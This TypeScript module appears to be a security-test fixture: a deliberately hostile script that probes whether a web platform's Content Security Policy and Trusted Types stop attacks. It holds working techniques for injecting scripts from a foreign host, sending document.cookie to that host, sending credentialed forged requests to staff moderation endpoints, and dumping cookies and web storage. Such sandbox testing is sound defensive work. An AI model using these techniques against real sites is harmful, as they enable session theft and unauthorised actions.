import type { ScriptWake } from '@gniazdo/composition/script';
import { createElement } from '@gniazdo/ui/dom';

export const wake: ScriptWake = 'used';

/** What a hostile script knows or guesses: the hosts, and the state of a remote (`seen`) that a command of staff names. */
type Targets = { controlRoom: string; backOffice: string; foreign: string; seen: string; why: string };
type Outcomes = Record<string, string>;

/** `refused`: it threw, was blocked, or found nothing. */
const REFUSED = 'refused';
const PASSWORD = 'input[type=password]';
/** Words of pages and messages that only staff get. */
const STAFF_TEXT = /Releases|Moderation|Give a reason/;
const CHANGE = '/_releases/change';
const MODERATION = '/_releases/moderation';

const { dataset } = document.documentElement;

/**
 * Marks each document that the script runs in, and counts the fields for passwords in it. On the page of this remote it tries
 * what a release must not do, and writes the outcomes into the mark.
 */
export async function start() {
  dataset.passwords = '0';
  new MutationObserver(countPasswords).observe(document, { childList: true, subtree: true, attributeFilter: ['type'] });
  countPasswords();
  dataset.hostile = 'started';
  const targets = Object.fromEntries(new URLSearchParams(location.hash.slice(1))) as Targets;
  if (targets.foreign) dataset.hostile = JSON.stringify(await attack(targets));
}

function countPasswords() {
  dataset.passwords = String(Number(dataset.passwords) + document.querySelectorAll(PASSWORD).length);
}

async function attack(targets: Targets) {
  return {
    policies: await attempt('created', createPolicies(['gniazdo', 'gniazdo-remote'])),
    typed: await attempt('ran', findWaysOfScripts(targets.foreign)),
    // Where the site has tags, its policy permits the default one of Trusted Types, which then trusts everything.
    trusted: await attempt('created', createPolicies(['default'])),
    scripts: await attempt('ran', findWaysOfScripts(targets.foreign)),
    workers: await startWorkers(targets),
    requests: await attempt('sent', findRequests(targets.foreign)),
    passwords: await attempt('found', findWaysToPasswords()),
    staff: await attempt('found', findWaysToStaff(targets)),
    readable: await readEverything(),
  };
}

type Ways = Record<string, () => unknown>;

/** Tries each way, one after the other: the outcome is `success` if it resolves to anything but `refused`. */
async function attempt(success: string, ways: Ways) {
  const outcomes: Outcomes = {};
  for (const [way, work] of Object.entries(ways)) {
    outcomes[way] = await Promise.resolve()
      .then(work)
      .then(
        (result) => (result === REFUSED ? REFUSED : success),
        () => REFUSED,
      );
  }
  return outcomes;
}

function createPolicies(names: string[]): Ways {
  const trust = (text: string) => text;
  const rules = { createHTML: trust, createScriptURL: trust, createScript: trust };
  return Object.fromEntries(names.map((name) => [name, () => window.trustedTypes!.createPolicy(name, rules)]));
}

let count = 0;

/** Ways to run a script of another host, which says so with an event. */
function findWaysOfScripts(foreign: string): Ways {
  const policy = window.gniazdo!.policy!;
  const html = (text: string) => policy.createHTML(text) as string;
  // A module of the same address would run only once.
  const url = (way: string) => `${foreign}/${way}?${(count += 1)}`;
  const code = (way: string) => `import('${url(way)}')`;
  const evaluate = Reflect.get(globalThis, 'eval') as (text: string) => unknown;
  const add = (element: HTMLElement) => {
    document.body.append(element);
    return element;
  };
  const addScript = (source: unknown) => {
    const script = document.createElement('script');
    script.src = source as string;
    return load(script, 'script-src');
  };
  return {
    element: () => addScript(url('element')),
    policyOfSite: () => addScript(policy.createScriptURL(url('policyOfSite'))),
    module: () => import(/* webpackIgnore: true */ url('module')),
    inline: () =>
      untilRun(() => {
        const script = document.createElement('script');
        script.textContent = code('inline');
        add(script);
      }),
    fragment: () =>
      untilRun(() => {
        const text = html(`<script src="${url('fragment')}"></script>`);
        document.body.append(document.createRange().createContextualFragment(text));
      }),
    handler: () =>
      untilRun(() => {
        const box = document.createElement('div');
        box.innerHTML = html(`<img src="data:," onerror="${code('handler')}">`);
        add(box);
      }),
    frame: () =>
      untilRun(() => {
        const frame = document.createElement('iframe');
        frame.srcdoc = html(`<script src="${url('frame')}"></script>`);
        return add(frame);
      }),
    address: () => untilRun(() => location.assign(`javascript:void ${code('address')}`)),
    eval: () => untilRun(() => void evaluate(code('eval'))),
  };
}

/** Resolves when a foreign script has run, or to `refused` when the policy has stopped it or the frame was loaded without it. */
function untilRun(begin: () => HTMLElement | void) {
  return new Promise<void | string>((resolve) => {
    addEventListener('foreign', () => resolve(), { once: true });
    void untilViolation('').then(resolve);
    begin()?.addEventListener('load', () => resolve(REFUSED));
  });
}

/** `refused` at the first violation of a directive that begins so. */
function untilViolation(directive: string) {
  return new Promise<string>((resolve) => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      if (effectiveDirective.startsWith(directive)) resolve(REFUSED);
    });
  });
}

/** Adds an element: resolves when it is loaded, or to `refused`. */
function load(element: HTMLElement, directive: string) {
  return new Promise<void | string>((resolve) => {
    element.addEventListener('load', () => resolve());
    element.addEventListener('error', () => resolve(REFUSED));
    void untilViolation(directive).then(resolve);
    document.body.append(element);
  });
}

/** Requests to another host, which counts them. */
function findRequests(foreign: string): Ways {
  const link = (rel: string, as?: string) => () =>
    load(createElement('link', { rel, as, href: `${foreign}/${rel}` }), '');
  return {
    fetch: () => fetch(`${foreign}/fetch`, { mode: 'no-cors', method: 'POST', body: document.cookie }),
    picture: () => load(createElement('img', { src: `${foreign}/picture` }), 'img-src'),
    stylesheet: link('stylesheet'),
    preload: link('preload', 'script'),
    prefetch: link('prefetch'),
    events: () =>
      new Promise<string | void>((resolve) => {
        const source = new EventSource(`${foreign}/events`);
        source.addEventListener('open', () => resolve());
        source.addEventListener('error', () => resolve(REFUSED));
      }),
    form: () => sendForm(`${foreign}/form`, {}, () => ''),
  };
}

async function startWorkers({ foreign, controlRoom, backOffice }: Targets) {
  const policy = window.gniazdo!.policy!;
  const own = new URL('./attackWorker.js', import.meta.url).href;
  const blob = URL.createObjectURL(new Blob([`importScripts('${foreign}/blob');postMessage('ran')`]));
  const message = { foreign, staff: [`${controlRoom}/_releases`, `${backOffice}${MODERATION}`] };
  const run = (url: string) =>
    new Promise<string>((resolve) => {
      const worker = new Worker(policy.createScriptURL(url) as string);
      worker.addEventListener('message', ({ data }) => resolve(JSON.stringify(data)));
      worker.addEventListener('error', () => resolve(REFUSED));
      void untilViolation('worker-src').then(resolve);
      worker.postMessage(message);
    });
  const register = (url: string, scope?: string) => () =>
    navigator.serviceWorker.register(policy.createScriptURL(url) as string, { scope });
  return {
    own: await run(own),
    ...(await attempt('ran', { blob: () => run(blob) })),
    ...(await attempt('registered', { service: register(own), serviceOfSite: register(own, '/') })),
  };
}

function findWaysToPasswords(): Ways {
  const login = '/pl/login';
  const find = ({ body }: Document) => body?.querySelector(PASSWORD) && 'found';
  return {
    document: () => find(document) ?? REFUSED,
    frame: () => readFrame(login, find),
    window: () => readWindow(open(login)!, find),
    view: async () => ((await fetch(`/_page${login}`)).ok ? 'found' : REFUSED),
  };
}

function findWaysToStaff({ controlRoom, backOffice, seen, why }: Targets): Ways {
  const change = { name: 'listing', action: 'pin', seen, why };
  const forms = { [CHANGE]: change, [MODERATION]: { kind: 'review', id: '1', decision: 'publish' } };
  const ways: Ways = {};
  for (const origin of ['', controlRoom, backOffice]) {
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
      const request = async (path: string, init: RequestInit) =>
        judge(await (await fetch(origin + path, { mode, credentials: 'include', ...init })).text());
      for (const path of ['/_releases', MODERATION]) ways[`${mode} GET ${origin}${path}`] = () => request(path, {});
      for (const [path, fields] of Object.entries(forms)) {
        const init = { method: 'POST', body: new URLSearchParams(fields) };
        ways[`${mode} POST ${origin}${path}`] = () => request(path, init);
      }
    }
    const find = ({ body }: Document) => body?.textContent && judge(body.textContent);
    ways[`picture ${origin}`] = () => load(createElement('img', { src: `${origin}/_releases` }), 'img-src');
    for (const path of ['/_releases', MODERATION])
      ways[`frame ${origin}${path}`] = () => readFrame(origin + path, find);
    for (const [path, fields] of Object.entries(forms))
      ways[`form ${origin}${path}`] = () => sendForm(origin + path, fields, find);
  }
  // The last ones. Each shows the page to the visitor, and nothing to the script.
  for (const url of [`${controlRoom}/_releases`, backOffice + MODERATION])
    ways[`window ${url}`] = () => readWindow(open(url)!, () => '');
  return ways;
}

function judge(text: string) {
  return STAFF_TEXT.test(text) ? 'found' : REFUSED;
}

type Find = (page: Document) => string | null | undefined;

async function readFrame(url: string, find: Find) {
  const frame = Object.assign(document.createElement('iframe'), { src: url });
  await load(frame, 'frame-src');
  const found = frame.contentDocument && find(frame.contentDocument);
  frame.remove();
  return found || REFUSED;
}

/** What is found in a window, or `refused` when the browser has cut it off. */
async function readWindow(opened: Window, find: Find) {
  for (;;) {
    if (opened.closed) return REFUSED;
    opened.postMessage('gniazdo', '*');
    // Throws if another host's page is not cut off. At first it is an empty document of this page.
    const found = find(opened.document);
    if (found) return found;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Sends a form into a window. */
async function sendForm(action: string, fields: Record<string, string>, find: Find) {
  const target = open('', 'sent')!;
  const inputs = Object.entries(fields).map(([name, value]) => createElement('input', { name, value }));
  const form = createElement('form', { method: 'post', action, target: 'sent' }, ...inputs);
  document.body.append(form);
  const stopped = untilViolation('form-action');
  form.submit();
  const outcome = await Promise.race([stopped, readWindow(target, find)]);
  target.close();
  return outcome;
}

/** Where secrets of a session would be readable. */
async function readEverything() {
  const { cookieStore } = globalThis as unknown as { cookieStore: { getAll(): Promise<object[]> } };
  return JSON.stringify([document.cookie, await cookieStore.getAll(), { ...localStorage }, { ...sessionStorage }]);
}
